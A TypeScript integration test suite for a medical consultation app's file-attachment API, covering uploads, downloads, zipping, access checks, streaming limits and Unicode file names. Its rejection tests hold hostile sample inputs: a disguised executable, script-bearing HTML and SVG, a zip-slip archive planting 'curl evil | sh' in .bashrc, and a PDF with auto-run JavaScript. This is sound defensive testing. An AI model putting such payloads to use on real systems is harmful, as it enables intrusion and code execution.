import { readdirSync } from "node:fs";
import { connect } from "node:net";
import { request as httpRequest } from "node:http";
import { unzipSync, zipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { App } from "../../http/app.ts";
import { listen, type RunningServer } from "../../http/server.ts";
import { createFixtures, type Fixtures } from "../../testing/fixtures.ts";
import { createTestApp } from "../../testing/test-app.ts";
import { TestClient } from "../../testing/test-client.ts";
import { createTestDatabase, type TestDatabase } from "../../testing/test-database.ts";
import { loggedInClient } from "../../testing/logged-in.ts";

// Issue 9 item 4: attachments through REST (spec 2 §7 "Messages and files"), against a real
// database, a real storage folder and, for the streaming limits, a real socket.

let db: TestDatabase;
let app: App;
let server: RunningServer;
let fx: Fixtures;
let alice: TestClient;
let bob: TestClient;
let carol: TestClient;
let pending: TestClient;
/** Alice's draft to a topic whose files may be 1 MB at most. */
let draftId = 0;
/** Alice's published request to Bob (from the fixtures). */
let publishedId = 0;

const encode = (text: string) => new TextEncoder().encode(text);
const PNG = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 73, 72, 68, 82, 0, 0, 0, 2, 0, 0, 0, 1, 8, 6, 0, 0, 0]);
const PDF = encode("%PDF-1.4\n1 0 obj<<>>endobj\nxref\n0 1\n0000000000 65535 f \ntrailer<<>>\nstartxref\n9\n%%EOF\n");
const TEXT = encode("Compte rendu : tension 12/8, pas d'anomalie.\n");

type Uploaded = { id: number; client_id: string | null; name: string; content_type: string; media_kind: string; size: number; url: string };

function form(files: [Uint8Array, string][], fields: Record<string, string> = {}): FormData {
  const body = new FormData();
  for (const [name, value] of Object.entries(fields)) body.append(name, value);
  for (const [bytes, name] of files) body.append("file", new Blob([bytes.slice()]), name);
  return body;
}

const upload = (client: TestClient, path: string, body: FormData) => client.fetch(`/api/v1${path}`, { method: "POST", body });

/** Every object and temporary file in the storage folder. */
function storedObjects(): string[] {
  return readdirSync(app.deps.config.filesDir, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => entry.name);
}

async function settle(check: () => Promise<boolean>): Promise<void> {
  for (let i = 0; i < 50 && !(await check()); i++) await new Promise((resolve) => setTimeout(resolve, 50));
}

const loggedIn = (email: string): Promise<TestClient> => loggedInClient(app, email);

beforeAll(async () => {
  db = await createTestDatabase();
  fx = await createFixtures(db.prisma, { aliceRequests: 1 });
  app = createTestApp(db);
  server = await listen(app, 0, "127.0.0.1");
  const group = await db.prisma.group.create({ data: { name: "Dermatologie Nantes", mode: "RECIPIENT", country: "FR" } });
  const topic = await db.prisma.topic.create({ data: { groupId: group.id, label: "Lésion cutanée", maxUploadSizeMb: 1 } });
  const draft = await db.prisma.request.create({
    data: {
      authorId: fx.alice.id,
      recipientType: "GROUP",
      recipientGroupId: group.id,
      recipientTopicId: topic.id,
      participants: { create: { userId: fx.alice.id, professionalId: fx.alice.professionalId, side: "SENDER" } },
    },
  });
  draftId = draft.id;
  publishedId = fx.aliceRequestIds[0] ?? 0;
  const pendingUser = await db.prisma.user.create({ data: { email: "pending@files.test", firstName: "Paul", lastName: "Pending", country: "FR", passwordHash: (await db.prisma.user.findUniqueOrThrow({ where: { id: fx.alice.id } })).passwordHash } });
  await db.prisma.participant.create({ data: { requestId: draftId, userId: pendingUser.id, side: "SENDER" } });
  [alice, bob, carol, pending] = await Promise.all([loggedIn(fx.alice.email), loggedIn(fx.bob.email), loggedIn(fx.carol.email), loggedIn("pending@files.test")]);
});
afterAll(async () => {
  await server?.close();
  await db?.drop();
});

describe("uploading and reading attachments", () => {
  it("gives back the very bytes uploaded, typed by content, with the client ids echoed", async () => {
    const response = await upload(alice, `/requests/${draftId}/files/`, form([[PNG, "photo.jpg"], [PDF, "compte rendu.pdf"]], { client_ids: '["row-1","row-2"]' }));
    expect(response.status).toBe(201);
    const files = (await response.json()) as Uploaded[];
    expect(files.map((f) => [f.client_id, f.name, f.content_type, f.media_kind, f.size])).toEqual([
      ["row-1", "photo.jpg", "image/png", "image", PNG.length],
      ["row-2", "compte rendu.pdf", "application/pdf", "pdf", PDF.length],
    ]);
    const download = await alice.fetch(files[1]?.url ?? "");
    expect(download.status).toBe(200);
    expect(new Uint8Array(await download.arrayBuffer())).toEqual(PDF);
    expect(download.headers.get("content-type")).toBe("application/pdf");
    expect(download.headers.get("x-content-type-options")).toBe("nosniff");
    // A PDF is never rendered by the browser's own viewer (issue 17): a sandboxed download; the app draws it with pdf.js.
    expect(download.headers.get("content-disposition")).toBe(`attachment; filename="compte rendu.pdf"; filename*=UTF-8''compte%20rendu.pdf`);
    expect(download.headers.get("content-security-policy")).toMatch(/^sandbox;/);
  });

  it("accepts one client_id field per file", async () => {
    const response = await upload(alice, `/requests/${draftId}/files`, form([[TEXT, "notes.txt"]], { client_id: "tmp-9" }));
    expect(response.status).toBe(201);
    const [file] = (await response.json()) as Uploaded[];
    expect(file).toMatchObject({ client_id: "tmp-9", content_type: "text/plain", media_kind: "other" });
    const download = await alice.fetch(file?.url ?? "");
    expect(download.headers.get("content-disposition")).toMatch(/^inline;/);
  });

  it.each([
    ["an executable", new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00]), "rapport.pdf"],
    ["HTML behind a PDF header", encode("%PDF-1.4 <html><script>alert(1)</script></html>\nstartxref\n9\n%%EOF\n"), "scan.pdf"],
    ["an SVG", encode('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), "image.svg"],
  ])("refuses %s with file_type_refused and keeps nothing", async (_name, bytes, name) => {
    const before = storedObjects().length;
    const rows = await db.prisma.file.count();
    const response = await upload(alice, `/requests/${draftId}/files`, form([[PNG, "ok.png"], [bytes, name]]));
    expect(response.status).toBe(422);
    expect(await response.json()).toMatchObject({ code: "file_type_refused", field: "file" });
    expect(await db.prisma.file.count()).toBe(rows);
    expect(storedObjects().length).toBe(before);
  });

  it("lists the draft's files in GraphQL with their download links", async () => {
    const result = await alice.graphql<{ node: { files: { name: string; mediaKind: string; url: string }[]; maxUploadSizeMb: number; filesZipUrl: string } }>(
      "query($id: ID!) { node(id: $id) { ... on Request { files { name mediaKind url } maxUploadSizeMb filesZipUrl } } }",
      { id: Buffer.from(`Request:${draftId}`).toString("base64") },
    );
    expect(result.data?.node.files.map((f) => [f.name, f.mediaKind])).toEqual([
      ["photo.jpg", "IMAGE"],
      ["compte rendu.pdf", "PDF"],
      ["notes.txt", "OTHER"],
    ]);
    expect(result.data?.node.maxUploadSizeMb).toBe(1);
    expect(result.data?.node.filesZipUrl).toBe(`/api/v1/requests/${draftId}/files/zip`);
  });

  it("zips every file of the request", async () => {
    const response = await alice.fetch(`/api/v1/requests/${draftId}/files/zip`);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("application/zip");
    const entries = unzipSync(new Uint8Array(await response.arrayBuffer()));
    expect(Object.keys(entries)).toEqual(["photo.jpg", "compte rendu.pdf", "notes.txt"]);
    expect(entries["compte rendu.pdf"]).toEqual(PDF);
    expect(entries["notes.txt"]).toEqual(TEXT);
  });
});

describe("who may upload, list, download and zip", () => {
  it("refuses a sender's upload to a published request", async () => {
    const response = await upload(alice, `/requests/${publishedId}/files`, form([[PNG, "late.png"]]));
    expect(response.status).toBe(403);
    expect(await response.json()).toMatchObject({ code: "upload_forbidden" });
  });

  it("answers a non-participant exactly like a missing request, for every call", async () => {
    const file = await db.prisma.file.findFirstOrThrow({ where: { requestId: draftId } });
    const calls: [string, () => Promise<Response>, () => Promise<Response>][] = [
      ["upload", () => upload(carol, `/requests/${draftId}/files`, form([[PNG, "x.png"]])), () => upload(carol, "/requests/2147483647/files", form([[PNG, "x.png"]]))],
      ["download", () => carol.fetch(`/api/v1/requests/${draftId}/files/${file.id}/x`), () => carol.fetch("/api/v1/requests/2147483647/files/2147483647/x")],
      ["zip", () => carol.fetch(`/api/v1/requests/${draftId}/files/zip`), () => carol.fetch("/api/v1/requests/2147483647/files/zip")],
      ["delete", () => carol.rest("DELETE", `/requests/${draftId}/files/${file.id}`), () => carol.rest("DELETE", "/requests/2147483647/files/2147483647")],
    ];
    for (const [name, hidden, missing] of calls) {
      const [a, b] = [await hidden(), await missing()];
      expect([name, a.status, await a.text()]).toEqual([name, b.status, await b.text()]);
      expect(a.status, name).toBe(404);
    }
    const node = await carol.graphql<{ node: unknown }>("query($id: ID!) { node(id: $id) { id } }", { id: Buffer.from(`File:${file.id}`).toString("base64") });
    expect(node.data?.node).toBeNull();
  });

  it("refuses an unvalidated account, even a participant, everything", async () => {
    const file = await db.prisma.file.findFirstOrThrow({ where: { requestId: draftId } });
    for (const response of [
      await upload(pending, `/requests/${draftId}/files`, form([[PNG, "x.png"]])),
      await pending.fetch(`/api/v1/requests/${draftId}/files/${file.id}/x`),
      await pending.fetch(`/api/v1/requests/${draftId}/files/zip`),
    ]) {
      expect(response.status).toBe(403);
      expect(await response.json()).toMatchObject({ code: "unvalidated" });
    }
  });

  it("lets a participant attach files to their own draft message, seen by others only once published", async () => {
    const draftMessage = await db.prisma.message.findFirstOrThrow({ where: { requestId: publishedId, authorId: fx.bob.id, status: "DRAFT" } });
    const response = await upload(bob, `/messages/${draftMessage.id}/files`, form([[PDF, "ordonnance.pdf"]]));
    expect(response.status).toBe(201);
    const [file] = (await response.json()) as Uploaded[];
    expect(file?.url).toBe(`/api/v1/requests/${publishedId}/files/${file?.id}/ordonnance.pdf`);
    expect((await bob.fetch(file?.url ?? "")).status).toBe(200);
    expect((await alice.fetch(file?.url ?? "")).status).toBe(404);
    // Alice does not see Bob's draft: for her it does not exist.
    expect((await upload(alice, `/messages/${draftMessage.id}/files`, form([[PDF, "x.pdf"]]))).status).toBe(404);
    await db.prisma.message.update({ where: { id: draftMessage.id }, data: { status: "PUBLISHED", publishedAt: new Date() } });
    expect((await alice.fetch(file?.url ?? "")).status).toBe(200);
    expect((await upload(bob, `/messages/${draftMessage.id}/files`, form([[PDF, "x.pdf"]]))).status).toBe(403);
  });

  it("deletes a draft's attachment, row and object", async () => {
    const [file] = (await (await upload(alice, `/requests/${draftId}/files`, form([[TEXT, "à supprimer.txt"]]))).json()) as Uploaded[];
    const row = await db.prisma.file.findUniqueOrThrow({ where: { id: file?.id ?? 0 } });
    expect(storedObjects()).toContain(row.storageKey);
    const response = await alice.rest("DELETE", `/requests/${draftId}/files/${row.id}`);
    expect(response.status).toBe(204);
    expect(await db.prisma.file.findUnique({ where: { id: row.id } })).toBeNull();
    expect(storedObjects()).not.toContain(row.storageKey);
    expect((await alice.fetch(file?.url ?? "")).status).toBe(404);
  });

  it("deletes through GraphQL too, and refuses the recipient side", async () => {
    const published = await db.prisma.file.findFirstOrThrow({ where: { requestId: publishedId } });
    const mutation = "mutation($id: ID!) { deleteRequestFile(id: $id) { __typename ... on DomainError { code } ... on RequestFileDeleted { deletedFileId } } }";
    const refused = await alice.graphql<{ deleteRequestFile: { code?: string } }>(mutation, { id: Buffer.from(`File:${published.id}`).toString("base64") });
    expect(refused.data?.deleteRequestFile.code).toBe("upload_forbidden");
    const [file] = (await (await upload(alice, `/requests/${draftId}/files`, form([[TEXT, "b.txt"]]))).json()) as Uploaded[];
    const id = Buffer.from(`File:${file?.id}`).toString("base64");
    const deleted = await alice.graphql<{ deleteRequestFile: { deletedFileId?: string } }>(mutation, { id });
    expect(deleted.data?.deleteRequestFile.deletedFileId).toBe(id);
  });
});

describe("streamed limits", () => {
  const boundary = "----consilium-test";
  const partHead = encode(`--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="big.txt"\r\ncontent-type: text/plain\r\n\r\n`);
  const chunk = new Uint8Array(256 * 1024).fill(0x61);

  it("refuses a file over the topic's limit while it streams, and keeps nothing", async () => {
    const rows = await db.prisma.file.count();
    const before = storedObjects().length;
    const answer = await new Promise<{ status: number; body: string; sentChunks: number }>((resolve, reject) => {
      let sent = 0;
      let answered = false;
      const req = httpRequest(
        new URL(`/api/v1/requests/${draftId}/files`, server.url),
        { method: "POST", headers: { "content-type": `multipart/form-data; boundary=${boundary}`, "x-csrf-token": alice.cookie("csrf_token") ?? "", cookie: `csrf_token=${alice.cookie("csrf_token")}; consilium_session=${alice.cookie("consilium_session")}`, "transfer-encoding": "chunked" } },
        (res) => {
          answered = true;
          let body = "";
          res.setEncoding("utf8");
          res.on("data", (text: string) => (body += text));
          res.on("end", () => resolve({ status: res.statusCode ?? 0, body, sentChunks: sent }));
        },
      );
      req.on("error", (error) => {
        if (!answered) reject(error);
      });
      req.write(partHead);
      // Up to 64 MB, far past the 1 MB limit: the answer must come long before.
      const pump = () => {
        while (!answered && sent < 256) {
          sent++;
          if (!req.write(chunk)) return void req.once("drain", pump);
        }
        if (!answered) req.end();
      };
      pump();
    });
    expect(answer.status).toBe(413);
    expect(JSON.parse(answer.body)).toMatchObject({ code: "file_too_large", field: "file" });
    expect(answer.sentChunks).toBeLessThan(256);
    await settle(async () => storedObjects().length === before);
    expect(storedObjects().length).toBe(before);
    expect(await db.prisma.file.count()).toBe(rows);
  });

  it("leaves neither a row nor a file when the client goes away mid-upload", async () => {
    const rows = await db.prisma.file.count();
    const before = storedObjects().length;
    const url = new URL(server.url);
    const socket = connect(Number(url.port), url.hostname);
    await new Promise<void>((resolve) => socket.once("connect", () => resolve()));
    const cookie = `csrf_token=${alice.cookie("csrf_token")}; consilium_session=${alice.cookie("consilium_session")}`;
    socket.write(
      `POST /api/v1/requests/${draftId}/files HTTP/1.1\r\nHost: localhost\r\nContent-Type: multipart/form-data; boundary=${boundary}\r\nContent-Length: ${900 * 1024}\r\nX-CSRF-Token: ${alice.cookie("csrf_token")}\r\nCookie: ${cookie}\r\n\r\n`,
    );
    socket.write(partHead);
    socket.write(chunk);
    // Wait until the server has started writing the object, then vanish.
    await settle(async () => storedObjects().length > before);
    expect(storedObjects().length).toBeGreaterThan(before);
    socket.destroy();
    await settle(async () => storedObjects().length === before);
    expect(storedObjects().length).toBe(before);
    expect(await db.prisma.file.count()).toBe(rows);
  });
});

describe("names and contents from real browsers (issue 17)", () => {
  const NFC = "échographie-cœur.png";
  const NFD = NFC.normalize("NFD");
  let requestId = 0;

  beforeAll(async () => {
    const draft = await db.prisma.request.create({
      data: { authorId: fx.alice.id, recipientType: "PROFESSIONAL", participants: { create: { userId: fx.alice.id, professionalId: fx.alice.professionalId, side: "SENDER" } } },
    });
    requestId = draft.id;
  });

  /** A multipart body as a browser writes it: the file name as raw UTF-8 bytes in `filename="..."`. */
  function browserBody(files: [Uint8Array, string][]): { body: Uint8Array<ArrayBuffer>; contentType: string } {
    const boundary = "----WebKitFormBoundaryc0nsilium";
    const parts = files.flatMap(([bytes, name]) => [encode(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: image/png\r\n\r\n`), bytes, encode("\r\n")]);
    const all = [...parts, encode(`--${boundary}--\r\n`)];
    const body = new Uint8Array(new ArrayBuffer(all.reduce((n, part) => n + part.byteLength, 0)));
    all.reduce((at, part) => (body.set(part, at), at + part.byteLength), 0);
    return { body, contentType: `multipart/form-data; boundary=${boundary}` };
  }

  it("keeps an accented name through upload, list, download and zip, a decomposed one NFC-normalised", async () => {
    const { body, contentType } = browserBody([[PNG, NFC], [PNG, NFD]]);
    const response = await alice.fetch(`/api/v1/requests/${requestId}/files`, { method: "POST", body: new Blob([body]), headers: { "content-type": contentType } });
    expect(response.status).toBe(201);
    const files = (await response.json()) as Uploaded[];
    expect(files.map((f) => f.name)).toEqual([NFC, NFC]);
    expect(files[0]?.url).toBe(`/api/v1/requests/${requestId}/files/${files[0]?.id}/%C3%A9chographie-c%C5%93ur.png`);

    const listed = await alice.graphql<{ node: { files: { name: string }[] } }>("query($id: ID!) { node(id: $id) { ... on Request { files { name } } } }", {
      id: Buffer.from(`Request:${requestId}`).toString("base64"),
    });
    expect(listed.data?.node.files.map((f) => f.name)).toEqual([NFC, NFC]);

    const download = await alice.fetch(files[0]?.url ?? "");
    expect(download.headers.get("content-disposition")).toBe(`inline; filename="echographie-coeur.png"; filename*=UTF-8''%C3%A9chographie-c%C5%93ur.png`);
    expect(new Uint8Array(await download.arrayBuffer())).toEqual(PNG);

    const archive = new Uint8Array(await (await alice.fetch(`/api/v1/requests/${requestId}/files/zip`)).arrayBuffer());
    expect(Object.keys(unzipSync(archive))).toEqual([NFC, "échographie-cœur (2).png"]);
    // General purpose flag bit 11: the names are UTF-8, not CP437, for every unzip tool.
    expect(new DataView(archive.buffer, archive.byteOffset).getUint16(6, true) & 0x800).toBe(0x800);
  });

  it("refuses a zip or an office document with an entry outside its folder, and a PDF that runs JavaScript, with invalid_file", async () => {
    const rows = await db.prisma.file.count();
    const before = storedObjects().length;
    const slip = zipSync({ "IRM/IM0001.dcm": PNG, "../../.bashrc": encode("curl evil | sh") }, { level: 0 });
    const docx = zipSync({ "[Content_Types].xml": encode("<Types/>"), "word/document.xml": encode("<w/>"), "C:/Windows/x.dll": PNG }, { level: 0 });
    const script = encode("%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL('https://x'))>>>>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n");
    for (const [bytes, name] of [[slip, "dossier.zip"], [docx, "courrier.docx"], [script, "résultats.pdf"]] as const) {
      const response = await upload(alice, `/requests/${requestId}/files`, form([[PNG, "ok.png"], [bytes, name]]));
      expect([name, response.status]).toEqual([name, 422]);
      expect(await response.json()).toMatchObject({ code: "invalid_file", field: "file", message: expect.stringContaining("contenu actif") });
    }
    expect(await db.prisma.file.count()).toBe(rows);
    expect(storedObjects().length).toBe(before);

    const folder = zipSync({ "IRM/IM0001.dcm": PNG, "IRM/compte rendu.txt": TEXT }, { level: 0 });
    expect((await upload(alice, `/requests/${requestId}/files`, form([[folder, "IRM.zip"]]))).status).toBe(201);
  });

  it("accepts a PDF with an embedded file and marks it", async () => {
    const embedded = encode("%PDF-1.7\n1 0 obj<</Type/Catalog/Names<</EmbeddedFiles 2 0 R>>>>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n");
    const response = await upload(alice, `/requests/${requestId}/files`, form([[embedded, "factur-x.pdf"]]));
    expect(response.status).toBe(201);
    const [file] = (await response.json()) as Uploaded[];
    const listed = await alice.graphql<{ node: { embedsFiles: boolean } }>("query($id: ID!) { node(id: $id) { ... on File { embedsFiles } } }", {
      id: Buffer.from(`File:${file?.id}`).toString("base64"),
    });
    expect(listed.data?.node.embedsFiles).toBe(true);
  });
});
